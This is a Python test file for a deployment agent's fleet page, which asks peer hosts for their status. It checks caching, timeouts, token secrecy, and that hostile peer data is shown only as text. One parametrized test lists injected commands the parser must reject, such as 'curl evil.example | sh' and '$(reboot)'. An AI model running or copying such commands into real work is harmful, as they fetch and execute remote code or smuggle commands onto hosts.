"""All hosts on one page: peers are asked as strangers, and waited for by nobody."""

from __future__ import annotations

import asyncio
import json
import re
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import aiohttp
import anyio
import pytest

from agent.control.outside import peers
from agent.domain.errors import PermanentError
from agent.domain.outcome import Reason
from agent.domain.outside_config import Peer
from agent.domain.status import peer_status, report
from agent.surface.page.links import Links
from agent.surface.page.render import Renderer
from agent.surface.page.views import fleet as fleets
from agent.surface.page.views.fleet import Row
from agent.surface.page.views.host import host
from tests.unit.builders import release
from tests.unit.judged import DOWN, GITEA, LOOKED, action, facts, hold
from tests.unit.test_api import TOKEN, Agent
from tests.unit.test_page import HOSTILE, Page, _with, document, sound
from tests.unit.test_page_served import BROWSER

Answer = Callable[[BaseHTTPRequestHandler], None]


@contextmanager
def peer(answer: Answer) -> Iterator[tuple[str, list[dict[str, str]]]]:
    """A server that answers so; its address, and the headers that it was sent."""
    heard: list[dict[str, str]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append({**dict(self.headers), "path": self.path})
            answer(self)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
    finally:
        server.shutdown()
        server.server_close()


def saying(body: bytes, code: int = 200, **headers: str) -> Answer:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(code)
        for name, value in headers.items():
            handler.send_header(name.replace("_", "-"), value)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return answer


def told(host: str = "nas", **given: Any) -> bytes:
    return json.dumps({**document(**given), "host": host}).encode()


@pytest.fixture
def agent() -> Iterator[Agent]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with tempfile.TemporaryDirectory(prefix="peers-") as place:
        yield Agent(Path(place), listen=f"127.0.0.1:{port}")


async def _page(client: aiohttp.ClientSession, path: str = "/", code: int = 200) -> Page:
    async with client.get(path, headers=BROWSER) as answer:
        assert answer.status == code
        return sound(await answer.text())


def _row(page: Page, host: str) -> str:
    """The text between a host's name and the next."""
    return re.split(r"\n(?=nas|media)", page.text.split(host, 1)[1])[0]


def test_the_first_page_has_a_line_for_each_host_and_a_page_for_each(agent: Agent) -> None:
    body = told(holds=[hold("web", Reason.CLIFF, person=True)])
    token = agent.place / "nas.token"
    token.write_text(TOKEN)
    token.chmod(0o600)

    async def work(client: aiohttp.ClientSession) -> None:
        page = await _page(client)
        assert "2 wait for you" in page.text  # this one is not enrolled
        assert {"./hosts/nas", "./hosts/media"} <= set(page.all("href"))
        assert page.all("data-every") == ["20"]
        async with client.get("/hosts/nas", headers=BROWSER) as answer:
            text = await answer.text()
        assert "its own page" in text
        assert f'href="{url}"' in text
        assert "commitd approve" in text
        await _page(client, "/hosts/nas/stacks/web", 404)
        await _page(client, "/hosts/nobody", 404)
        assert "All hosts" in (await _page(client, "/hosts/media")).text
        assert len(heard) == 1, "what was said a moment ago is not asked for again"
        assert heard[0]["Authorization"] == f"Bearer {TOKEN}"
        assert heard[0]["path"] == "/below/v1/status"

    with peer(saying(body)) as (place, heard):
        url = f"{place}/below"
        agent.peers = (Peer(name="nas", url=url, token_file=token),)
        agent.serve(work)


def test_nobody_is_asked_while_nobody_looks(agent: Agent) -> None:
    async def work(client: aiohttp.ClientSession) -> None:
        for path in ("/v1/history", "/hosts/media", "/history", "/assets/style.css"):
            async with client.get(path, headers=BROWSER) as answer:
                assert answer.status == 200
        assert heard == []

    with peer(saying(told())) as (url, heard):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


def test_a_host_that_is_gone_is_shown_with_what_it_said_last(
    agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(peers, "FRESH_S", 0.0)
    answers = [saying(told()), saying(b"", 500)]

    async def work(client: aiohttp.ClientSession) -> None:
        assert "In sync" in _row(await _page(client), "nas")
        answers.pop(0)
        page = await _page(client)
        assert "No answer" in _row(page, "nas")
        assert "It was: In sync (in sync with 1a2b3c4 (gitea))" in page.text
        assert page.text.count("in sync with") == 1, "what was then is not said of now"
        assert "1 does not answer" in page.text
        async with client.get("/hosts/nas", headers=BROWSER) as answer:
            text = await answer.text()
        assert "It does not answer now: 500" in text
        assert "No answer" in text

    def answer(handler: BaseHTTPRequestHandler) -> None:
        answers[0](handler)

    with peer(answer) as (url, _):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


def test_names_that_cannot_be_looked_up_keep_no_other_lookup_waiting(
    agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    """asyncio looks names up in a few threads, which it shares: the agent asks its remotes so."""
    monkeypatch.setattr(peers, "FRESH_S", 0.0)
    monkeypatch.setattr(peers, "PATIENCE_S", 0.05)
    monkeypatch.setattr(peers, "WITHIN_S", 0.05)
    real, go_on = socket.getaddrinfo, threading.Event()
    begun: list[str] = []

    def look_up(host: Any, *words: Any, **more: Any) -> Any:
        if str(host).endswith(".invalid"):
            begun.append(str(host))
            go_on.wait(30)
            raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
        return real(host, *words, **more)

    monkeypatch.setattr(socket, "getaddrinfo", look_up)

    async def work(client: aiohttp.ClientSession) -> None:
        try:
            for _ in range(4):
                await _page(client)
                await anyio.sleep(0.1)
            page = await _page(client)
            assert "20 do not answer" in page.text
            assert "no answer within 0.05 s" in page.text
            assert sorted(begun) == sorted(f"host-{n}.invalid" for n in range(20))
            with anyio.fail_after(10):
                await asyncio.get_running_loop().run_in_executor(None, str)
        finally:
            go_on.set()

    agent.peers = tuple(Peer(name=f"h{n}", url=f"http://host-{n}.invalid") for n in range(20))
    agent.serve(work)


def test_a_document_that_is_not_kept_is_not_called_silence(
    agent: Agent, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(peers, "_KEPT", 10)

    async def work(client: aiohttp.ClientSession) -> None:
        assert "In sync" in _row(await _page(client), "nas")
        page = await _page(client, "/hosts/nas", 503)
        assert "more than is kept" in page.text
        assert "does not answer" not in page.text

    with peer(saying(told())) as (url, _):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


def test_one_that_hangs_keeps_nobody_waiting(agent: Agent, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(peers, "PATIENCE_S", 0.05)
    go_on = threading.Event()

    async def work(client: aiohttp.ClientSession) -> None:
        assert "Asked" in _row(await _page(client), "nas")
        go_on.set()
        await _page(client, "/hosts/nas/", 404)
        async with client.get("/hosts/nas", headers=BROWSER) as answer:
            assert answer.status == 200

    def slow(handler: BaseHTTPRequestHandler) -> None:
        go_on.wait(30)
        saying(told())(handler)

    with peer(slow) as (url, _):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


def _dripping(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()
    until = time.monotonic() + 20
    try:
        while time.monotonic() < until:
            handler.wfile.write(b" " * 65536)
    except OSError:
        pass


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (saying(b"<html>hello"), "no agent of a version that is known"),
        (saying(b"[" * 100_000), "no agent of a version that is known"),
        (saying(b"{}"), "missing required field `host`"),
        (saying(b'{"host": 5}'), "no agent of a version"),
        (saying(b"\xff\xfe"), "no agent of a version"),
        (saying(b"", 302, Location="http://127.0.0.1:1/steal"), "302: we are sent elsewhere"),
        (saying(b"", 401), "401: a token is needed there"),
        (saying(b"", 421), "see api.hosts there"),
        (_dripping, "does not speak HTTP as it should"),
    ],
    ids=range(9),
)
def test_what_is_no_answer_of_an_agent_is_said_to_be_none(
    agent: Agent, answer: Answer, said: str
) -> None:
    async def work(client: aiohttp.ClientSession) -> None:
        page = await _page(client)
        assert "No answer" in _row(page, "nas")
        assert said in page.text
        await _page(client, "/hosts/nas", 503)
        assert len(heard) == 1

    with peer(answer) as (url, heard):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


def test_a_token_goes_where_it_is_meant_to_and_shows_nowhere(
    agent: Agent, caplog: pytest.LogCaptureFixture
) -> None:
    token = agent.place / "token"
    token.write_text(TOKEN)
    token.chmod(0o644)

    async def work(client: aiohttp.ClientSession) -> None:
        page = await _page(client)
        assert "token_file of nas" in page.text or "others" in page.text
        assert TOKEN not in page.text

    with peer(saying(told())) as (url, heard), peer(saying(b"")) as (other, others):
        agent.peers = (Peer(name="nas", url=url, token_file=token),)
        agent.serve(work)
        assert heard == [], "not with a token that others may read"
        token.chmod(0o600)
        with peer(saying(b"", 307, Location=f"{other}/v1/status")) as (sending, _):
            agent.peers = (Peer(name="nas", url=sending, token_file=token),)

            async def sent(client: aiohttp.ClientSession) -> None:
                assert "we are sent elsewhere" in (await _page(client)).text

            agent.serve(sent)
        assert others == []
    assert TOKEN not in caplog.text


@pytest.mark.parametrize("word", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_peer_is_text(agent: Agent, word: str) -> None:
    given = report.status(
        facts(
            [release("web")], remotes=[DOWN], broken={"db": "why"},
            holds=[hold("web", Reason.CLIFF, person=True), hold("rogue", Reason.VOLUMES)],
        ), changed_at=LOOKED,
    )  # fmt: skip
    hostile = {**_with(given, word), "more": word, "revision": given["revision"]}
    for at in ("remotes", "stacks"):
        for mine, theirs in zip(hostile[at], given[at], strict=True):
            mine |= {key: theirs[key] for key in ("head", "revision") if key in theirs}
    body = json.dumps(hostile, ensure_ascii="\ud800" in word).encode()

    async def work(client: aiohttp.ClientSession) -> None:
        page = await _page(client)
        assert len([tag for tag, _ in page.tags if tag == "script"]) == 1
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b]", page.text)
        async with client.get("/hosts/nas", headers=BROWSER) as answer:
            shown = Page(await answer.text())
        assert shown.faults == []
        assert len([tag for tag, _ in shown.tags if tag == "script"]) == 1
        assert shown.all("data-copy") in ([], ["commitd enroll"])

    with peer(saying(body)) as (url, _):
        agent.peers = (Peer(name="nas", url=url),)
        agent.serve(work)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh", "commitd approve 'x; reboot'", "commitd approve $(reboot)",
        "commitd retry a\nreboot", "docker stop -t 0 x", "commitd resume -h", "sudo commitd enroll",
    ],
)  # fmt: skip
def test_no_peer_has_a_person_copy_another_command(command: str) -> None:
    given = document(holds=[hold("web", Reason.CLIFF, person=True)])
    assert peer_status.read(json.dumps(given).encode())["holds"][0]["command"]
    given["holds"][0]["command"] = command
    assert peer_status.read(json.dumps(given).encode())["holds"][0]["command"] is None


def test_a_peer_of_another_version_may_do_what_is_not_known_here() -> None:
    given = document(working=[action("deploy", "web")], holds=[hold("media", Reason.TREE)])
    given["stacks"][0]["working"]["action"] = "teleport"
    for each in given["holds"]:
        del each["ends_alone"], each["command"]
    view = host(peer_status.read(json.dumps(given).encode()))
    assert [each.sync.word for each in view.stacks] == ["working"]
    assert view.needs == ()


def test_an_id_of_a_peer_is_an_id() -> None:
    rogue = {
        "id": "x; reboot #", "name": "n", "image": "i", "action": "removed", "reason": "r",
        "message": "m", "at": LOOKED, "undoable": True,
    }  # fmt: skip
    given = report.status(facts([release("web")]), undeclared=[rogue], changed_at=LOOKED)
    with pytest.raises(PermanentError):
        peer_status.read(json.dumps(given).encode())
    given["undeclared"][0]["id"] = "ab" * 32
    shown = {key: value for key, value in given.items() if key != "working"}
    for part, unshown in (("agent", "trial"), ("engine", "swarm")):
        shown[part] = {key: value for key, value in given[part].items() if key != unshown}
    assert peer_status.read(json.dumps(given).encode()) == shown


def _rows(count: int, stacks: int = 20) -> list[Row]:
    releases = [release(f"stack-{n}") for n in range(stacks)]
    behind = {**GITEA, "name": "mirror", "head": "d" * 40, "relation": "behind", "lag": 3}
    line = fleets.line(
        report.status(
            facts(releases, remotes=[DOWN, behind], broken={"stack-1": "why"}), changed_at=LOOKED
        )
    )
    return [fleets.row(f"host-{n}", line, seen_at=LOOKED) for n in range(count)]


def test_a_line_tells_what_failed_and_how_far_remotes_are(
    renderer: Renderer,
) -> None:
    page = _shown(renderer, _rows(1))
    assert "3 commits behind" in page.text
    assert "down" in page.text
    assert "missing" in page.text


def test_who_waits_for_a_person_stands_first_and_who_is_in_sync_last() -> None:
    good = fleets.line(document())
    needy = fleets.line(document(holds=[hold("web", Reason.CLIFF, person=True)]))
    failed = fleets.line(document(broken={"db": "why"}))
    rows = [
        fleets.row("a", good),
        fleets.row("b", good, error="refused", seen_at=LOOKED),
        fleets.row("c", failed),
        fleets.row("d", needy),
        fleets.row("e", None, asked=False),
        fleets.row("f", needy, error="refused", seen_at=LOOKED),
    ]
    view = fleets.fleet(rows)
    assert [each.name for each in view.rows] == ["d", "c", "b", "f", "e", "a"]
    assert view.said == "1 of 6 hosts in sync, 1 waits for you, 2 do not answer"
    assert fleets.fleet([fleets.row(name, good) for name in "ab"]).said == "All 2 hosts are in sync"


def test_a_peer_of_another_name_says_so(renderer: Renderer) -> None:
    line = fleets.line(document())
    assert "calls itself" in _shown(renderer, [fleets.row("nas", line)]).text
    assert "calls itself" not in _shown(renderer, [fleets.row(line.called, line)]).text


def test_fifty_hosts_are_one_short_page(renderer: Renderer) -> None:
    page = _shown(renderer, _rows(50))
    assert page.text.count("host-") == 50
    assert len([tag for tag, _ in page.tags if tag == "tr"]) == 51


def _shown(renderer: Renderer, rows: list[Row]) -> Page:
    view = fleets.fleet(rows)
    values = {"fleet": view, "by": "media", "icon": view.state.tone}
    return sound(renderer.page("fleet", Links(fleet=True), values).decode())


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer()


def test_a_swarm_shows_its_nodes_and_where_tasks_run_and_ids_of_services_are_ids() -> None:
    given = report.status(facts([release("web")]), changed_at=LOOKED)
    given["nodes"] = [
        {"name": "node1", "role": "manager", "state": "ready", "availability": "drain",
         "leads": True, "engine": "28.5.2"},
    ]  # fmt: skip
    tasks = [{"node": "node1", "state": "running"}] * 2 + [{"node": None, "state": "pending"}]
    service = {"name": "app", "image": "i", "state": "running", "health": None, "tasks": tasks}
    given["stacks"][0]["services"] = [service]
    given["undeclared"] = [
        {"id": "q9t6kxxw2v8m3n1p5r7s0zabc", "name": "n", "image": "i", "action": "removed",
         "reason": "r", "message": "m", "at": LOOKED, "undoable": True},
    ]  # fmt: skip
    view = host(peer_status.read(json.dumps(given).encode()))
    assert view.stacks[0].services[0].tasks == "2 on node1, 1 pending on no node"
    assert [(n["name"], n["role"], n["state"].tone) for n in view.nodes] == [
        ("node1", "leader", "good")
    ]
    assert view.undeclared[0]["command"] == "commitd undo q9t6kxxw2v8m"
